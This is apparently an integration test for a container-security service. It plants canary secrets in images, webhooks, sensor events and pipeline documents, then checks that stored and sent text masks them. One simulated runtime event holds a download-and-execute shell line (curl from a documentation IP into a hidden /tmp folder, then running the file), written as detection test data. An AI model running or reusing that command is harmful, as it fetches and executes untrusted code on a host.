import { createHash, generateKeyPairSync, randomUUID } from 'node:crypto';

import { currentRun, freePort } from '@tidewaiter/servers';
import {
  buildImage,
  describeWith,
  httpSink,
  type HttpSink,
  mailSink,
  type MailSink,
  programs,
  pushImage,
  slackSink,
  type SlackSink,
  startRegistry,
  type TarEntry,
  type TestRegistry,
} from '@tidewaiter/testkit';

import { base64At, canaries, type Canary, leaksIn } from './canaries.js';
import { hookKinds, kindsWithActor, plantedHook } from './canary-hooks.js';
import { echoingRegistry } from './echoing-registry.js';
import { debian13 } from './fixtures.js';
import { readAnswers, readRedis, readStreams, readTables, type StoredTexts } from './stored-text.js';
import { makeHome, removeFolders, startTidewaiter, temporaryFolder, type Tidewaiter, until } from './tidewaiter.js';

// Secrets of many kinds are planted in all incoming text, and searched in all stored and outgoing
// text.

const hookSecret = 'hook-of-the-canary-test';
const sensorToken = 'sensor-of-the-canary-test';
const channel = 'C0000001';
const container = createHash('sha256').update('canaries').digest('hex');
/**
 * Control text that is no secret, beside each of them: a search that does not find it is broken.
 */
const control = `control-${randomUUID().slice(0, 8)}`;
/** Control text of one input: it must be found somewhere, or nothing of that input was stored. */
const controlOf = (place: string) => `${control}-${place.replaceAll(/[^a-z0-9]+/gi, '-').toLowerCase()}`;
const planted = canaries(createHash('sha256').update(control).digest());
const allText = planted.map(({ text }) => text).join(' ; ');
/** Some take the place of a configured secret, which no pattern can know. */
const ownSecrets = [
  'registry password',
  'webhook secret',
  'pipeline token',
  'wrong API token',
  'wrong hook secret',
  'secret of a managed entry',
  'secret of a channel',
].map((name): Canary => {
  const secret = createHash('sha256').update(`${control} ${name}`).digest('base64url').slice(0, 24);
  return { name, text: secret, secret };
});
const ownSecret = (name: string) => ownSecrets.find((each) => each.name === name)!.secret;

let slack: SlackSink;
let mail: MailSink;
let webhook: HttpSink;
let registry: TestRegistry;
let echoing: HttpSink;
let collector: HttpSink;
let tidewaiter: Tidewaiter;
let digest: string;

beforeAll(async () => {
  [slack, mail, collector, echoing, webhook] = await Promise.all([
    slackSink(),
    mailSink(),
    httpSink(() => ({ status: 200, body: {} })),
    echoingRegistry(planted.map(({ text }) => text)),
    // Echoes the request in a refusal, as many receivers do.
    httpSink(({ text, path }) => ({ status: path === '/fails' ? 400 : 200, body: { error: text } })),
  ]);
  const ingestPort = await freePort();
  registry = await startRegistry({
    notify: {
      url: `http://127.0.0.1:${ingestPort}/hooks/registry/main`,
      headers: { Authorization: `Bearer ${hookSecret}` },
    },
  });
  const sensors = [
    'tetragon',
    'falco',
    'tracee',
    'kubernetes-audit',
    'kubernetes-watch',
    'cloudtrail',
    'guardduty',
    'cri',
    'generic',
  ];
  const home = makeHome({
    'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
  - { name: closed, kind: generic, url: "http://127.0.0.1:9", webhookSecret: ${ownSecret('webhook secret')}, allowPrivate: true }
${hookKinds.map((kind) => `  - { name: ${kind}, kind: ${kind}, url: "${echoing.url}", allowUnauthenticated: true, allowPrivate: true, credentials: { username: ci, password: ${ownSecret('registry password')} } }`).join('\n')}
pipelines:
  - { name: ci, kind: token, token: ${ownSecret('pipeline token')} }
sensors:
${sensors.map((kind) => `  - { name: ${kind}, kind: ${kind}, cluster: eu1, token: ${sensorToken}${kind === 'generic' ? ', fields: { id: id, at: time, process.commandLine: cmd }' : ''} }`).join('\n')}
`,
    'routing.yaml': `
global: { smtp_smarthost: "127.0.0.1:${mail.port}", smtp_from: tidewaiter@example.com, smtp_require_tls: false }
route:
  receiver: all
receivers:
  - name: all
    slack_configs: [ { app_token: xoxb-test, app_url: "${slack.apiUrl}/chat.postMessage", channel: ${channel} } ]
    email_configs: [ { to: security@example.com } ]
    webhook_configs: [ { url: "${webhook.url}/ok" }, { url: "${webhook.url}/fails" } ]
  # No route leads here: the secret is in no message, and not in the routing that the API shows.
  - name: ${controlOf('receiver')}
    webhook_configs: [ { url: "https://hook.example/${ownSecret('secret of a channel')}" } ]
`,
  });
  process.env['OTEL_EXPORTER_OTLP_ENDPOINT'] = collector.url;
  tidewaiter = await startTidewaiter(home, ingestPort);
}, 240_000);

afterAll(async () => {
  await tidewaiter?.stop();
  await Promise.all([registry, slack, mail, webhook, echoing, collector].map(async (server) => server?.stop()));
  await removeFolders();
});

async function post(path: string, ...events: object[]): Promise<number> {
  const answer = await fetch(`${tidewaiter.ingestUrl}/hooks/${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${path.startsWith('registry') ? hookSecret : sensorToken}` },
    body: events.map((event) => JSON.stringify(event)).join('\n'),
  });
  await answer.text();
  return answer.status;
}

const now = () => new Date().toISOString();

let serial = 0;

function tetragon(binary: string, args: string): object {
  serial += 1;
  const pod = {
    namespace: 'shop',
    name: 'canary-7d4c9f6b5-x2x9k',
    container: {
      id: `containerd://${container}`,
      name: 'canary',
      image: { id: `${registry.host}/shop/canary@${digest}`, name: `${registry.host}/shop/canary:1` },
    },
  };
  const process = {
    exec_id: `n:${serial}`,
    pid: serial,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    start_time: now(),
    pod,
  };
  return { process_exec: { process, parent: { ...process, exec_id: 'n:0' } }, node_name: 'n', time: now() };
}

/** Text that fits on one line between quotation marks. */
const quotable = (text: string) => text.replaceAll(/["'\\]/g, '');

function packageFiles({ text, name }: Canary): TarEntry[] {
  const license = `${controlOf('package license')} ${text}`;
  const json = {
    name: `pkg-${name}`,
    version: '1.0.0',
    license,
    homepage: text,
    author: text,
    repository: { url: text },
    scripts: { postinstall: text },
  };
  return [{ path: `app/node_modules/pkg-${name}/package.json`, content: JSON.stringify(json) }];
}

const dpkg = planted
  .map(({ text, name }) =>
    [
      `Package: deb-${name}`,
      'Status: install ok installed',
      'Architecture: amd64',
      'Version: 1.0-1',
      `Maintainer: ${quotable(text)}`,
      `Homepage: ${quotable(text)}`,
      `Description: ${quotable(text)}`,
      '',
    ].join('\n'),
  )
  .join('\n');

/** Pushes an image with the secrets in its files, packages, steps and configuration. */
async function pushCanaryImage(tag: string, osText: string): Promise<string> {
  const dir = temporaryFolder();
  await buildImage(dir, {
    layers: [
      [
        { ...debian13, content: debian13.content?.toString().replace(/"Debian[^"]*"/, `"${quotable(osText)}"`) ?? '' },
        { path: 'var/lib/dpkg/status', content: dpkg },
        { path: 'var/lib/dpkg/info/dash.md5sums', content: `${'0'.repeat(32)}  bin/${control}\n` },
        { path: 'etc/passwd', content: `root:x:0:0:${control}:/root:/bin/sh\n` },
      ],
      planted.flatMap(({ name, text }) => [
        { path: `app/${name}.env`, content: `# ${control}\n${text}\n` },
        { path: `usr/local/bin/${name}.sh`, content: `#!/bin/sh\n# ${control}\n${text}\n`, mode: 0o755 },
      ]),
      planted.flatMap(packageFiles),
      [{ path: `opt/${controlOf('file name')}`, content: 'x' }],
    ],
    config: {
      Env: planted.map(({ name, text }, index) => `V${index}=${control} ${name} ${text}`),
      Labels: { note: planted.map(({ text }) => text).join('\n'), control: controlOf('label') },
      Cmd: ['/bin/sh', '-c', `${controlOf('command')} ${allText}`],
      Entrypoint: ['/entry', controlOf('entrypoint'), ...planted.map(({ text }) => text)],
      Healthcheck: { Test: ['CMD-SHELL', `${controlOf('health check')} ${allText}`] },
      User: 'app',
      StopSignal: 'SIGTERM',
      Volumes: { [`/data/${controlOf('volume')}`]: {} },
    },
    steps: planted.map(({ text }, index) => `RUN ${controlOf('history')} ${index} ${text}`),
  });
  return pushImage(registry, `shop/canary:${tag}`, `oci:${dir}:latest`);
}

/** Pushes of the images, read early: those of the webhooks fill the first page later. */
let pushIds: string[] = [];

async function analyzedPushes(): Promise<{ id: string }[]> {
  const { items } = await tidewaiter.api<{ items: { id: string; state: string }[] }>('/pushes');
  return items.filter(({ state }) => state === 'analyzed');
}

async function pushed(count: number): Promise<void> {
  await until(`${count} pushes are read`, async () => (await analyzedPushes()).length >= count, 120_000);
}

/** Every sensor reports each secret in all members that may contain it. */
async function reportSecrets({ text, name }: Canary): Promise<void> {
  const audit = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    auditID: randomUUID(),
    stage: 'ResponseComplete',
    verb: 'create',
    requestURI: `/api/v1/namespaces/shop/pods?note=${encodeURIComponent(text)}`,
    user: { username: `${control} dev`, extra: { note: [text] } },
    userAgent: `kubectl ${text}`,
    annotations: { note: text },
    objectRef: { resource: 'pods', namespace: 'shop', name: 'p' },
    requestObject: {
      kind: 'Pod',
      metadata: { annotations: { note: text, control } },
      spec: {
        hostPID: true,
        containers: [
          {
            name: 'c',
            env: [{ name: 'V', value: text }],
            command: ['sh', '-c'],
            args: [text],
            securityContext: { privileged: true },
          },
        ],
      },
    },
    responseStatus: { code: 201 },
    requestReceivedTimestamp: now(),
    stageTimestamp: now(),
  };
  const falco = {
    rule: `Canary ${name}`,
    time: now(),
    priority: 'Critical',
    hostname: 'n',
    output: `${control} command=${text}`,
    output_fields: {
      'proc.cmdline': text,
      'proc.pcmdline': text,
      'proc.exepath': '/bin/sh',
      'container.id': container.slice(0, 12),
    },
  };
  const tracee = {
    timestamp: Date.now() * 1e6,
    eventName: 'execve',
    hostName: 'n',
    processName: 'sh',
    containerId: container,
    args: [
      { name: 'pathname', value: '/bin/sh' },
      { name: 'argv', value: ['sh', '-c', text, control] },
      { name: 'envp', value: [text] },
    ],
  };
  const cloud = {
    eventID: randomUUID(),
    eventVersion: '1.10',
    eventTime: now(),
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/dev' },
    sourceIPAddress: '203.0.113.9',
    userAgent: text,
    requestParameters: { userName: 'admin', note: text, control },
  };
  const guard = {
    version: '0',
    'detail-type': 'GuardDuty Finding',
    source: 'aws.guardduty',
    time: now(),
    detail: {
      id: randomUUID(),
      type: 'Backdoor:Runtime/C&CActivity.B',
      severity: 8,
      title: `${control} ${text}`,
      description: text,
      region: 'eu-west-1',
      accountId: '123456789012',
      resource: {},
      service: { eventFirstSeen: now(), eventLastSeen: now(), action: {} },
      createdAt: now(),
      updatedAt: now(),
    },
  };
  const watched = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: `p-${name}`, namespace: 'shop', uid: randomUUID(), annotations: { note: text, control } },
    spec: { containers: [{ name: 'c', image: 'a:1', args: [text], env: [{ name: 'V', value: text }] }] },
    status: {},
  };
  const cri = {
    containers: [
      {
        id: createHash('sha256').update(name).digest('hex'),
        metadata: { name: 'c' },
        state: 'CONTAINER_RUNNING',
        createdAt: String(Date.now() * 1e6),
        annotations: { note: text, control },
        labels: {},
      },
    ],
    node: 'n',
  };
  const shell = tetragon(
    '/bin/sh',
    `-c "echo ${control}; ${text}; curl -s http://203.0.113.77/x -o /tmp/.x/k; /tmp/.x/k"`,
  );
  const statuses = await Promise.all([
    post('runtime/tetragon', shell, tetragon('/tmp/.x/k', text)),
    post('runtime/falco', falco),
    post('runtime/tracee', tracee),
    post('runtime/kubernetes-audit', audit),
    post('runtime/kubernetes-watch', { type: 'ADDED', object: watched }),
    post('runtime/cloudtrail', cloud),
    post('runtime/guardduty', guard),
    post('runtime/cri', cri),
    post('runtime/generic', { id: randomUUID(), time: now(), cmd: `${control} ${text}` }),
  ]);
  expect(statuses).toEqual(Array.from({ length: 9 }, () => 202));
}

/**
 * Kinds of registries announce pushes in turn, whose texts contain a secret; every kind has every
 * fifteenth.
 */
async function sendHooks(): Promise<void> {
  for (const [index, { text }] of planted.entries()) {
    const kinds = hookKinds.filter((_, nth) => (index + nth) % 5 === 0);
    for (const kind of kinds) {
      const { headers, body } = plantedHook(kind, `${controlOf(`actor of ${kind}`)} ${text}`, `t${index}`);
      const status = await send(`registry/${kind}`, JSON.stringify(body), headerSafe(headers));
      expect([kind, status]).toEqual([kind, 202]);
    }
  }
}

/** HTTP rejects line ends and text that is not Latin-1. */
const headerSafe = (headers: Record<string, string>) =>
  Object.fromEntries(Object.entries(headers).map(([name, text]) => [name, text.replaceAll(/[^\x20-\x7e]/g, ' ')]));

async function send(path: string, body: string, headers: Record<string, string> = {}): Promise<number> {
  const answer = await fetch(`${tidewaiter.ingestUrl}/hooks/${path}`, { method: 'POST', headers, body });
  refusals.push(await answer.text());
  return answer.status;
}

/** Responses of our own endpoints. */
const refusals: string[] = [];

/** Sends the documents of a pipeline about an image. */
async function sendDocuments(digest: string): Promise<void> {
  const authorization = `Bearer ${ownSecret('pipeline token')}`;
  for (const { text, name } of planted) {
    const url = `https://ci:${encodeURIComponent(text)}@ci.example.com/run?token=${encodeURIComponent(text)}`;
    const run = {
      ...{ url, id: text, workflow: text, source: text, revision: text, ref: text },
      actor: `${controlOf('pipeline run')} ${text}`,
    };
    const sbom = {
      bomFormat: 'CycloneDX',
      specVersion: '1.6',
      version: 1,
      metadata: { component: { type: 'container', name: 'a', version: digest } },
      components: [
        {
          type: 'library',
          name: `${controlOf('SBOM')} ${name} ${text}`,
          version: text,
          licenses: [{ license: { name: text } }],
          externalReferences: [{ type: 'vcs', url }],
          properties: [{ name: 'note', value: text }],
        },
      ],
    };
    const statement = {
      _type: 'https://in-toto.io/Statement/v1',
      predicateType: 'https://slsa.dev/provenance/v1',
      subject: [{ name: text, digest: { sha256: digest.slice(7) } }],
      predicate: {
        buildDefinition: {
          buildType: text,
          externalParameters: { note: `${controlOf('provenance')} ${text}` },
          internalParameters: { args: { [`build-arg:${name}`]: text } },
        },
        runDetails: {
          builder: { id: `https://ci.example.com/${encodeURIComponent(text)}` },
          metadata: { invocationId: url },
        },
      },
    };
    const payload = Buffer.from(JSON.stringify(statement)).toString('base64');
    const envelope = { payloadType: 'application/vnd.in-toto+json', payload, signatures: [{ sig: 'AAAA' }] };
    for (const document of [{ digest, run }, sbom, statement, envelope])
      expect(await send('pipeline/ci', JSON.stringify(document), { authorization })).toBe(202);
    // Rejected documents are answered and logged, too.
    await send('pipeline/ci', JSON.stringify({ digest, run: { [text]: text } }), { authorization });
    await send('pipeline/ci', JSON.stringify({ ...sbom, serialNumber: text }), { authorization });
  }
}

/** Sends requests with a wrong secret, or with unknown content. */
async function knockInVain(): Promise<void> {
  const wrong = { authorization: `Bearer ${ownSecret('wrong hook secret')}` };
  for (const [index, { text }] of planted.entries()) {
    const path = encodeURIComponent(text);
    await send(`registry/closed?token=${ownSecret('wrong hook secret')}&note=${path}`, text, wrong);
    await send(`registry/generic`, `{"type":"container.image.push","data":{"repository":"${path}","tag":"${path}"}}`);
    await send(`registry/${path}`, text, wrong);
    await send(`runtime/falco`, text, { authorization: `Bearer ${sensorToken}falco` });
    const apiPath = ['images', 'incidents', 'pushes', 'blast-radius?q=', 'find?q='][index % 5]!;
    const answer = await fetch(`${tidewaiter.consoleUrl}/api/v1/${apiPath}/${path}`, {
      headers: {
        authorization: `Bearer ${index % 2 === 0 ? ownSecret('wrong API token') : text.replaceAll(/[^\x20-\x7e]/g, '')}`,
      },
    });
    refusals.push(await answer.text());
  }
  await send('registry/closed', JSON.stringify(plantedHook('generic', control, 'closed').body), {
    authorization: `Bearer ${ownSecret('webhook secret')}`,
  });
}

/** Adds an entry of each kind by the API, with secrets where the kind has any. */
async function manageEntries(): Promise<void> {
  const { stdout } = await tidewaiter.command('tokens', 'create', 'manager', '--role', 'maintainer');
  const headers = { authorization: `Bearer ${stdout.trim()}`, 'content-type': 'application/json' };
  const secret = ownSecret('secret of a managed entry');
  const key = generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' });
  const documents: Record<string, object> = {
    exceptions: { finding: 'CVE-2020-1', repository: 'none/*', reason: 'test', owner: 'team', until: '2999-01-31' },
    policies: { name: 'few', source: 'rules:\n  - expression: size(findings) < 1000\n', mode: 'audit' },
    signers: { name: 'release', key, repositories: ['none/*'] },
    registries: {
      ...{ name: 'managed', kind: 'harbor', url: 'https://managed.example.com', webhookSecret: secret },
      credentials: { username: 'reader', password: secret },
    },
    sensors: { name: 'managed', kind: 'falco', token: secret },
    reports: { name: 'unfixed', schedule: 'weekly', receiver: 'all', query: '' },
  };
  for (const [kind, document] of Object.entries(documents)) {
    const body = JSON.stringify({ document, comment: 'for this test' });
    const answer = await fetch(`${tidewaiter.consoleUrl}/api/v1/${kind}`, { method: 'POST', headers, body });
    expect([kind, answer.status, await answer.text()]).toEqual([kind, 200, expect.anything()]);
  }
  const silence = { matchers: ['namespace="none"'], endsAt: '2999-01-31T00:00:00Z', comment: 'for this test' };
  await tidewaiter.api('/silences', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(silence),
  });
  await fetch(`${tidewaiter.consoleUrl}/api/v1/reports/unfixed/send`, { method: 'POST', headers, body: '{}' });
  await until('a report is made', async () =>
    (await tidewaiter.api<{ items: { state: string }[] }>('/report-runs')).items.some(({ state }) => state === 'made'),
  );
}

/** Code of a command line that waits to be signed in. */
async function waitingLogin(): Promise<string> {
  const answer = await fetch(`${tidewaiter.consoleUrl}/api/v1/device-logins`, { method: 'POST' });
  return ((await answer.json()) as { userCode: string }).userCode;
}

/** Stored and sent texts, by place. */
async function everything(): Promise<StoredTexts> {
  const found: StoredTexts = new Map();
  await manageEntries();
  const run = (await currentRun(`${tidewaiter.home}/.tidewaiter`))!;
  found.set('log', JSON.stringify(tidewaiter.log()));
  found.set('Slack', JSON.stringify(slack.received.map(({ path, text }) => [path, text])));
  found.set('mail', JSON.stringify(mail.received));
  found.set('webhook', JSON.stringify(webhook.received));
  found.set('answers to senders', refusals.join('\n'));
  found.set('traces', collector.received.map(({ text }) => text).join('\n'));
  await readTables(run.urls!.database, found);
  await readStreams(run.urls!.nats, found);
  await readRedis(run.urls!.redis, found);
  for (const { name, url } of run.services)
    found.set(`metrics of ${name}`, await (await fetch(`${url}/metrics`)).text());
  const changes = pushIds.map((id) => `/pushes/${id}/changes`);
  const radii = ['', '/containers'].map(
    (part) => `/blast-radius${part}?purl=${encodeURIComponent('pkg:npm/pkg-aws-id')}`,
  );
  const questions = [
    '/search?q=pkg-aws-id',
    `/compare?from=${pushIds[0]}&to=${pushIds[1]}`,
    '/completions?list=pushes&q=repository%3D&cursor=11',
    ...['cyclonedx', 'spdx', 'openvex', 'sarif', 'junit', 'gitlab', 'csv'].map(
      (format) => `/report?format=${format}&image=${encodeURIComponent(`${new URL(registry.url).host}/shop/canary:1`)}`,
    ),
    `/device-logins/${await waitingLogin()}`,
    '/repositories/fix-times?connection=main&repository=shop%2Fcanary',
    '/vulnerabilities/CVE-2020-1/trend',
  ];
  unanswered = await readAnswers(tidewaiter, found, [...changes, ...radii, ...questions]);
  return found;
}

/** Routes of the API without any answered call. */
let unanswered: string[] = [];

describeWith(programs('docker-registry', 'skopeo'))('secrets in all inputs', () => {
  let places: StoredTexts;
  /** Records leave the stream when they are evaluated. */
  let early: StoredTexts;

  beforeAll(async () => {
    // Errors of channels quote the request, and more.
    mail.next(...planted.slice(0, 3).map(({ text }) => ({ at: 'data' as const, code: 451, message: text })));
    slack.next(...planted.slice(0, 4).map(({ text }) => ({ status: 200, body: { ok: false, error: text } })), {
      status: 500,
      body: allText,
    });
    digest = await pushCanaryImage('1', `${controlOf('OS release')} ${planted[1]!.text} ${planted[12]!.text}`);
    await pushed(1);
    await pushCanaryImage('2', planted.map(({ text }) => quotable(text)).join(' ; '));
    await pushed(2);
    pushIds = (await analyzedPushes()).map(({ id }) => id);
    for (const canary of planted) await reportSecrets(canary);
    early = new Map();
    await readStreams((await currentRun(`${tidewaiter.home}/.tidewaiter`))!.urls!.nats, early);
    await sendHooks();
    await sendDocuments(digest);
    await knockInVain();
    await until(
      'an incident is open',
      async () => (await tidewaiter.api<{ items: unknown[] }>('/incidents')).items.length > 0,
    );
    await until(
      'messages are sent',
      () => webhook.received.length > 0 && mail.received.length > 0 && slack.channel(channel).length > 0,
    );
    await until('a delivery has failed', () => webhook.received.some(({ path }) => path === '/fails'));
    // The snapshot of the detector follows after half a minute.
    await new Promise((done) => setTimeout(done, 35_000));
    places = await everything();
    for (const [place, text] of early) places.set(`${place} early`, text);
  }, 480_000);

  it.each([
    'table detection_alert',
    'table incident',
    'table push',
    'table image_finding',
    'table dead_letter',
    'table pipeline_document',
    'stream TIDEWAITER_RUNTIME early',
    'answers to senders',
    'traces',
    'webhook',
    'mail',
    'Slack',
    'Redis',
    'log',
  ])('reach %s, whose text is searched', (place) => {
    expect(places.get(place)?.length ?? 0).toBeGreaterThan(10);
  });

  it.each([
    ...kindsWithActor.map((kind) => `actor of ${kind}`),
    ...['receiver', 'OS release', 'package license', 'label', 'volume', 'history', 'file name'],
    ...['pipeline run', 'SBOM', 'provenance'],
  ])('are received by %s, whose other text is stored', (place) => {
    const marker = controlOf(place);
    const forms = [marker, ...[0, 1, 2].map((lead) => base64At(marker, lead))];
    expect([...places].filter(([, text]) => forms.some((form) => text.includes(form)))).not.toEqual([]);
  });

  it('are replaced by masks, with the surrounding text kept', () => {
    const all = [...places.values()].join('\n');
    expect(all).toContain('****');
    const withControl = [...places].filter(([, text]) => text.includes(control)).map(([place]) => place);
    expect(withControl).toEqual(expect.arrayContaining(['stream TIDEWAITER_RUNTIME early', 'table incident']));
  });

  it('are searched in the answers of all routes', () => {
    // Previews of messages are about the documentation's image, no provider signs users in, and no
    // advisory is about these images.
    const preview = ['messages/preview', 'messages/preview/mail'];
    const withoutData = [
      ...preview,
      'sign-in/oidc',
      'sign-in/oidc/callback',
      'vulnerabilities/{id}',
      'vulnerabilities/{id}/vex',
      'containment/{id}',
    ];
    expect(unanswered).toEqual(withoutData.map((path) => `/api/v1/${path}`));
  });

  it('are in every answer of a registry', () => {
    expect(echoing.received.length).toBeGreaterThan(30);
  });

  it('appear in no form in any stored or sent text', () => {
    expect(leaksIn(places, [...planted, ...ownSecrets])).toEqual([]);
  });
});
